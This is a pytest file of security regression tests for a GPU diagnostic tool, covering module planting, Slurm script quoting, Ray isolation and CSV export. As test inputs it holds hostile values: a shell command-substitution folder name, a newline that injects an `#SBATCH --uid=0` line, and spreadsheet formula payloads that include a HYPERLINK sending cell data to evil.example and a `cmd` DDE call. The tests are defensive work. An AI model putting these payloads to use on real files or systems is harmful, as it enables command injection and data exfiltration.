"""Issue 26 (second audit): the doctor's own children and what it hands to other programs.

* finding 1: ``replay`` and ``sweep`` start the replay worker isolated (``-I``): a ``gpudoctor/``
  or ``yaml.py`` that another user planted in the current folder never runs as root;
* finding 6: ``replay RUN`` sizes the model from its config, not from the recorded ``params``;
  a config this machine cannot train is refused;
* finding 7: ``--emit-slurm DIR`` quotes every value and refuses control characters;
* finding 8: ``--backend ray``'s local instance: token auth, a private temp folder, a private cwd;
* finding 9: CSV export neutralises formula cells, leaves numbers numbers.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from gpudoctor.common.errors import UserError
from tests.conftest import ROOT, run_cli

HEALTHY = ROOT / "sample_configs" / "healthy.yaml"
PLANTED = {  # what another user leaves in a folder root may cd into; each writes its marker if run
    "gpudoctor/__init__.py": "ran-gpudoctor",
    "yaml.py": "ran-yaml",
    "tokenizers.py": "ran-tokenizers",
}


def _plant(user, folder: Path) -> None:
    """``user`` plants, in ``folder`` (theirs), modules that leave a marker when imported."""
    code = ("import os, sys, json\nfolder, planted = sys.argv[1], json.loads(sys.argv[2])\n"
            "for name, marker in planted.items():\n"
            "    path = os.path.join(folder, name)\n"
            "    os.makedirs(os.path.dirname(path), exist_ok=True)\n"
            "    with open(path, 'w') as fh:\n"
            "        fh.write(f'open({os.path.join(folder, marker)!r}, \"w\").write(str(__import__(\"os\").geteuid()))\\n')\n")
    subprocess.run([user.python, "-c", code, str(folder), json.dumps(PLANTED)], check=True,
                   **user.popen_kwargs())
    assert (folder / "yaml.py").stat().st_uid == user.uid


def _ran(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.glob("ran-*"))


def _doctor(*args: str, cwd: Path, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """``gpudoctor ARGS`` started from ``cwd`` as its console script starts: the current folder is not on
    the doctor's own path (``-P``); PYTHONPATH names this checkout."""
    full = {**os.environ, "PYTHONPATH": str(ROOT), **(env or {})}
    full.pop("GPUDOCTOR_RUN_DIR", None)
    return subprocess.run([sys.executable, "-P", "-m", "gpudoctor", *args], capture_output=True, text=True,
                          cwd=cwd, env=full, timeout=600)


needs_safe_path = pytest.mark.skipif(sys.version_info < (3, 11),
                                     reason="starting the doctor itself without its cwd on sys.path needs -P (3.11+)")


# -- finding 1: the doctor's own interpreters run isolated ---------------------------------------

@needs_safe_path
def test_replay_from_another_users_folder_never_imports_what_they_planted(tmp_path, other_user, other_user_dir):
    _plant(other_user, other_user_dir)
    out = tmp_path / "run"
    proc = _doctor("replay", str(HEALTHY), "--max-steps", "2", "--out", str(out), cwd=other_user_dir,
                   env={"GPUDOCTOR_REPLAY_CACHE": str(tmp_path / "cache")})
    assert _ran(other_user_dir) == [], "a module planted in the current folder ran as root"
    assert proc.returncode == 0, proc.stderr[-3000:]
    # Isolated, the worker still ran under the hooks (loaded by childpy, not by PYTHONPATH's sitecustomize)
    kinds = [json.loads(line)["k"] for f in (out / "events").glob("*.jsonl") for line in f.read_text().splitlines()]
    assert kinds.count("batch") >= 2 and "proc" in kinds, sorted(set(kinds))


def test_a_sweep_trial_from_another_users_folder_never_imports_what_they_planted(
        tmp_path, other_user, other_user_dir, monkeypatch):
    from gpudoctor.sweep.trial import prepare

    _plant(other_user, other_user_dir)
    monkeypatch.setenv("GPUDOCTOR_REPLAY_CACHE", str(tmp_path / "cache"))
    monkeypatch.chdir(other_user_dir)
    failed = prepare(HEALTHY, 300)  # the trial's first child: the worker, preparing the data
    assert _ran(other_user_dir) == [], "a module planted in the current folder ran as root"
    assert failed is None


def test_an_isolated_child_ignores_pythonpath_and_the_cwd_yet_finds_this_gpudoctor(tmp_path):
    from gpudoctor.processes import childpy

    planted = tmp_path / "planted"
    (planted / "gpudoctor").mkdir(parents=True)
    (planted / "gpudoctor" / "__init__.py").write_text("raise SystemExit('planted gpudoctor ran')\n")
    (planted / "json.py").write_text("raise SystemExit('planted json ran')\n")
    argv = childpy.isolated("gpudoctor", "--version")
    assert argv[:3] == [sys.executable, "-I", "-c"] and argv[4:] == [str(childpy.PKG_PARENT), "gpudoctor", "--version"]
    env = {**os.environ, "PYTHONPATH": str(planted)}
    env.pop("GPUDOCTOR_RUN_DIR", None)
    done = subprocess.run(argv, capture_output=True, text=True, env=env, cwd=planted, timeout=60)
    assert done.returncode == 0 and "planted" not in done.stdout + done.stderr, done.stderr
    assert done.stdout.startswith("gpudoctor ")  # this checkout's, loaded by its absolute path
    plain = subprocess.run([sys.executable, "-m", "gpudoctor", "--version"], capture_output=True, text=True,
                           env=env, cwd=planted, timeout=60)
    assert "planted gpudoctor ran" in plain.stderr  # what -m alone would have run


def test_every_python_the_doctor_starts_for_itself_goes_through_childpy():
    """No ``[sys.executable, "-m", ...]`` left in the package: each would put the cwd on sys.path."""
    offenders = []
    for path in (ROOT / "gpudoctor").rglob("*.py"):
        text = path.read_text()
        for match in re.finditer(r"sys\.executable\s*,\s*\"-m\"|sys\.executable\s*,\s*'-m'", text):
            offenders.append(f"{path.relative_to(ROOT)}:{text[:match.start()].count(chr(10)) + 1}")
    assert offenders == []
    from gpudoctor.processes import childpy
    from gpudoctor.sweep.trial import command

    argv = command(Path("c.yaml"), Path("run"), _protocol())
    assert argv[:3] == [sys.executable, "-I", "-c"] and argv[4:6] == [str(childpy.PKG_PARENT),
                                                                     "gpudoctor.replay.worker"]


def test_py_spy_and_gdb_are_never_found_in_the_current_folder(tmp_path, monkeypatch):
    """An empty or relative PATH entry means the current folder: py-spy and gdb run as root."""
    from gpudoctor.attach.stacks import pyspy_path

    here = tmp_path / "theirs"
    here.mkdir()
    for name in ("py-spy", "gdb"):
        (here / name).write_text("#!/bin/sh\ntouch ran\n")
        (here / name).chmod(0o755)
    monkeypatch.chdir(here)
    monkeypatch.setenv("PATH", os.pathsep.join(["", ".", "bin", "/nonexistent-gd"]))
    monkeypatch.setattr(sys, "executable", str(tmp_path / "python"))  # no py-spy beside it
    assert shutil.which("py-spy") is not None  # what a plain lookup finds: ./py-spy
    assert pyspy_path() is None
    from gpudoctor.processes.childpy import which  # gdb's lookup (attach/inject.py)

    assert which("gdb") is None


def _protocol():
    from gpudoctor.sweep.protocol import Protocol

    return Protocol(1.0, 1.0, 2, 1)


# -- finding 6: the replay's size comes from the config -------------------------------------------

HUGE = {"model_type": "llama", "num_hidden_layers": 256, "hidden_size": 32768, "num_attention_heads": 256,
        "intermediate_size": 131072, "vocab_size": 32000}


def test_a_recorded_params_of_1000_beside_a_huge_config_is_not_replayed_at_its_own_shape():
    from gpudoctor.replay.derive import derive
    from gpudoctor.replay.facts import RunFacts

    facts = RunFacts()
    facts.model_config, facts.model_params, facts.model_source = dict(HUGE), 1000, "the recorded model config"
    derived = derive(facts)
    assert derived.values["model.config"] == {}  # the tiny stand-in; the real size is what is predicted
    assert "own shape" not in derived.comment("model.config")


def test_a_run_folder_whose_model_event_lies_about_its_size_derives_the_tiny_stand_in(tmp_path):
    from gpudoctor.replay.derive import derive
    from gpudoctor.replay.facts import from_run
    from tests.recording_builder import RecordingBuilder

    b = RecordingBuilder(tmp_path / "rec")
    rows = b.process()
    b.training_loop(rows, start_s=1.0, steps=4, compute_s=0.1, wait_s=0.01)
    rows.append({"k": "model", "t": 1_700_000_001.0, "config": dict(HUGE), "params": 1000,
                 "class": "LlamaForCausalLM"})
    derived = derive(from_run(b.write()))
    assert derived.values["model.config"] == {}  # never 256 x 32768 on this machine
    assert derived.values["model.n_layers"] == 256 and derived.values["model.hidden_size"] == 32768  # predicted


def test_a_model_config_this_machine_cannot_train_is_refused_in_one_line(tmp_path):
    from gpudoctor.replay.config import load_config

    doc = yaml.safe_load(HEALTHY.read_text())
    doc["model"] = {"arch": "llama", "config": {"num_hidden_layers": 256, "hidden_size": 32768,
                                                 "num_attention_heads": 256}}
    path = tmp_path / "huge.yaml"
    path.write_text(yaml.safe_dump(doc))
    with pytest.raises(UserError) as err:
        load_config(path)
    message = str(err.value)
    assert "model.config" in message and "GiB" in message and "\n" not in message
    from gpudoctor.replay.size import config_params

    assert config_params("llama", {"num_hidden_layers": 2, "hidden_size": 64}) < 2_000_000  # the tiny default


# -- finding 7: Slurm scripts ----------------------------------------------------------------------

def _emit(tmp_path: Path, folder: Path) -> subprocess.CompletedProcess[str]:
    config = tmp_path / "slow_loading.yaml"
    shutil.copy(ROOT / "sample_configs" / "slow_loading.yaml", config)
    return run_cli("sweep", str(config), "--grid", "dataloader_num_workers=0,1", "--cache", str(tmp_path / "c"),
                   "--emit-slurm", str(folder), env={"GPUDOCTOR_REPLAY_CACHE": str(tmp_path / "rc")})


def test_emit_slurm_quotes_a_folder_holding_a_command_substitution(tmp_path):
    marker = tmp_path / "PWNED"
    folder = tmp_path / f"x$(touch {marker})y"
    proc = _emit(tmp_path, folder)
    assert proc.returncode == 0, proc.stderr[-2000:]
    bin_dir = tmp_path / "bin"  # sbatch stands in for the scheduler this machine does not have
    bin_dir.mkdir()
    (bin_dir / "sbatch").write_text("#!/bin/sh\necho 4242\n")
    (bin_dir / "sbatch").chmod(0o755)
    env = {**os.environ, "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}"}
    done = subprocess.run(["bash", str(folder / "submit.sh")], capture_output=True, text=True, env=env, timeout=60)
    assert done.returncode == 0, done.stderr
    assert not marker.exists(), "a $(...) in --emit-slurm DIR ran"
    assert str(folder / "merged") in done.stdout  # shown as the text it is
    for name in ("sweep.sbatch", "merge.sbatch"):
        text = (folder / name).read_text()
        assert subprocess.run(["bash", "-n", str(folder / name)]).returncode == 0
        assert " -I -c " in text and " -m gpudoctor" not in text  # each task's Python isolated too
        assert all(not line.startswith("#SBATCH") or "$(" not in line or "'" in line for line in text.splitlines())


def test_emit_slurm_refuses_a_folder_with_a_newline(tmp_path):
    folder = tmp_path / "a\n#SBATCH --uid=0\nb"
    proc = _emit(tmp_path, folder)
    lines = [ln for ln in proc.stderr.splitlines() if ln.startswith("gpudoctor: ")]
    assert proc.returncode != 0 and len(lines) == 1 and "control character" in lines[0], proc.stderr
    assert not folder.exists()


# -- finding 8: a local Ray instance ---------------------------------------------------------------

def test_a_local_ray_instance_gets_a_private_temp_folder_token_auth_and_a_private_cwd(tmp_path, monkeypatch):
    from gpudoctor.sweep import ray_backend

    monkeypatch.setenv("XDG_RUNTIME_DIR", str(tmp_path))  # non-root: the state folder is there
    private = ray_backend.private_folder()
    try:
        assert stat.S_IMODE(private.stat().st_mode) == 0o700 and private.stat().st_uid == os.geteuid()
        assert not str(private).startswith("/tmp/ray")
        local = ray_backend.init_kwargs(None, private)
        assert Path(local["_temp_dir"]).parent == private  # Ray makes its root 0777: one level below ours
        assert local["include_dashboard"] is False and local["dashboard_host"] == "127.0.0.1"
        joined = ray_backend.init_kwargs("auto", private)
        assert joined["address"] == "auto" and "_temp_dir" not in joined  # the cluster's own
        env: dict[str, str] = {}
        ray_backend.token_auth(env)
        assert env["RAY_AUTH_MODE"] == "token" and len(env["RAY_AUTH_TOKEN"]) == 64
        other: dict[str, str] = {}
        ray_backend.token_auth(other)
        assert other["RAY_AUTH_TOKEN"] != env["RAY_AUTH_TOKEN"]  # fresh each time, never a file
        kept = {"RAY_AUTH_MODE": "disabled"}
        ray_backend.token_auth(kept)
        assert kept == {"RAY_AUTH_MODE": "disabled"}  # the user's choice stands
        here = os.getcwd()
        with ray_backend.inside(private):  # Ray puts the driver's cwd on its workers' sys.path
            assert os.getcwd() == str(private)
        assert os.getcwd() == here
    finally:
        shutil.rmtree(private, ignore_errors=True)


# -- finding 9: CSV export -------------------------------------------------------------------------

def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised_and_numbers_kept():
    pd = pytest.importorskip("pandas")
    from gpudoctor.tables.export import table_bytes

    df = pd.DataFrame({
        "name": ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
                 "\tTAB", "\rCR", "plain", None],
        "dt": [-1.5, 2.0, -0.25, 0.0, 1.0, 3.5, -7.0, None],
        "count": [-3, 1, 2, 3, 4, 5, 6, 7],
    })
    text = table_bytes(df, "csv").decode()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(df)
    names = [r["name"] for r in rows]
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in names)
    assert names[:5] == ["'" + v for v in df["name"][:5]] and names[5:] == ["'\nCR", "plain", ""]
    assert [r["dt"] for r in rows] == ["-1.5", "2.0", "-0.25", "0.0", "1.0", "3.5", "-7.0", ""]  # numbers stay
    assert [r["count"] for r in rows] == ["-3", "1", "2", "3", "4", "5", "6", "7"]
    assert df["name"][0].startswith("=")  # the caller's frame is not changed
